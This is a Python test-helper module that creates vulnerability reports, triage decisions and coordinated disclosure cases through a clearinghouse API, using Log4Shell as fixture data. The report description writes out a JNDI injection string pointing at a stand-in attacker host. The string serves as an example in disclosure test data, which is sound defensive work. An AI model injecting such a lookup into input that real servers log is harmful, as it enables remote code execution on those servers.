"""Helpers for case tests: reports, triage points and cases through the HTTP API."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import httpx

from tests.support.factory import PASSWORD

COORDINATE = {
    "report_public": "no",
    "supplier_contacted": "yes",
    "report_credibility": "credible",
    "supplier_cardinality": "multiple",
    "supplier_engagement": "active",
    "utility": "super effective",
    "public_safety_impact": "significant",
}

LOG4SHELL_REPORT: dict[str, Any] = {
    "title": "Remote code execution through JNDI lookups in log messages",
    "product": "Apache Log4j2",
    "vendor": "Apache Software Foundation",
    "affected_versions": "2.0-beta9 to 2.14.1",
    "purl": "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1",
    "description": (
        "Log4j2 evaluates ${jndi:ldap://attacker/x} lookups inside logged messages, so any "
        "logged string that an attacker controls can make the JVM load and run a remote class."
    ),
    "impact": "Unauthenticated remote code execution on any server that logs user input.",
    "exploited": "no",
    "already_public": "no",
    "vendor_contacted": "yes",
    "disclosure_plans": "Coordinated disclosure once a fixed release is available.",
    "credit_preference": "name",
    "credit_as": "Chen Zhaojun of Alibaba Cloud Security Team",
}


def report(client: httpx.Client, **overrides: Any) -> dict[str, Any]:
    r = client.post("/api/v1/reports", json={**LOG4SHELL_REPORT, **overrides})
    assert r.status_code == 201, r.text
    return dict(r.json())


def triage_and_open(
    operator: httpx.Client, report_id: str, title: str = "Log4j2 JNDI RCE"
) -> dict[str, Any]:
    r = operator.post(
        f"/api/v1/reports/{report_id}/transitions", json={"to": "valid", "reason": "reproduced"}
    )
    assert r.status_code == 200, r.text
    r = operator.post(f"/api/v1/reports/{report_id}/triage", json={"points": COORDINATE})
    assert r.status_code == 201, r.text
    assert r.json()["outcome"] == "coordinate"
    r = operator.post(f"/api/v1/reports/{report_id}/case", json={"title": title})
    assert r.status_code == 201, r.text
    return dict(r.json())


def make_org(
    admin: httpx.Client,
    slug: str,
    kind: str,
    user_email: str,
    *,
    timezone: str = "UTC",
    password: str = PASSWORD,
) -> None:
    """An organisation with one admin user (``admin`` is the operator's administrator)."""
    r = admin.post(
        "/api/v1/organisations",
        json={"slug": slug, "name": slug.title(), "kind": kind, "contact_email": user_email},
    )
    assert r.status_code == 201, r.text
    r = admin.post(
        f"/api/v1/organisations/{slug}/users",
        json={
            "email": user_email,
            "name": slug,
            "password": password,
            "role": "admin",
            "timezone": timezone,
        },
    )
    assert r.status_code == 201, r.text


def sent_emails(database: Any) -> list[dict[str, Any]]:
    """Payloads of the ``email.send`` jobs in the outbox, oldest first."""
    from sqlalchemy import select

    from clearinghouse.jobs.models import Job

    with database.transaction(write=False) as s:
        rows = s.scalars(
            select(Job).where(Job.kind == "email.send").order_by(Job.created_at, Job.id)
        ).all()
        return [dict(j.payload) for j in rows]


def invite_token(email_text: str) -> str:
    """The token of the invitation link in an e-mail's text."""
    import re

    match = re.search(r"/invitations/open#([A-Za-z0-9_.-]+)", email_text)
    assert match, email_text
    return match.group(1)


LOG4J = "pkg:maven/org.apache.logging.log4j/log4j-core"
VULN: dict[str, Any] = {
    "title": "JNDI lookup in log messages allows remote code execution",
    "cve_id": "CVE-2021-44228",
    "cwes": ["CWE-502", "917"],
    "cvss_vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
    "products": [
        {
            "purl": LOG4J,
            "ranges": [
                {"type": "ECOSYSTEM", "events": [{"introduced": "2.0-beta9"}, {"fixed": "2.3.1"}]},
                {"type": "ECOSYSTEM", "events": [{"introduced": "2.4"}, {"fixed": "2.12.2"}]},
                {"type": "ECOSYSTEM", "events": [{"introduced": "2.13.0"}, {"fixed": "2.15.0"}]},
            ],
        }
    ],
}


@dataclass
class Coordinated:
    case: str
    vuln: str
    coordinator: httpx.Client
    vendor: httpx.Client
    vendor_participant: str
    outside_participant: str
    outside_token: str


def bearer(platform: Any, email: str) -> httpx.Client:
    """A client with a read/write API token (tokens outlive the clock jumps below)."""
    token = platform.token(email, ["read", "write"])
    client: httpx.Client = platform.client(headers={"Authorization": f"Bearer {token}"})
    return client


def coordinate(platform: Any) -> Coordinated:
    """A case started by the member itself with one vulnerability, a vendor on the platform
    (vendor-a, whose user lives in Europe/Berlin) and a vendor invited by e-mail."""
    admin = platform.login(platform.world.operator_admin)
    make_org(admin, "vendor-a", "vendor", "psirt@vendor-a.test", timezone="Europe/Berlin")
    member = platform.login(platform.world.member_admin)
    r = member.post(
        "/api/v1/cases",
        json={
            "title": "Log4j2 RCE",
            "summary": "found in our own product",
            "vulnerabilities": [VULN],
            "participants": [
                {"organisation": "vendor-a", "response_days": 7},
                {"email": "Security@Logging.Apache.test", "name": "Apache Logging PMC"},
            ],
        },
    )
    assert r.status_code == 201, r.text
    case = r.json()
    vendor_p = next(p for p in case["participants"] if p["name"] == "Vendor-A")
    outside = next(p for p in case["participants"] if p["name"] == "Apache Logging PMC")
    (mail,) = [
        m for m in sent_emails(platform.database) if m["to"] == "security@logging.apache.test"
    ]
    return Coordinated(
        case=case["public_id"],
        vuln=case["vulnerabilities"][0]["id"],
        coordinator=bearer(platform, platform.world.member_admin),
        vendor=bearer(platform, "psirt@vendor-a.test"),
        vendor_participant=vendor_p["id"],
        outside_participant=outside["id"],
        outside_token=invite_token(mail["text"]),
    )
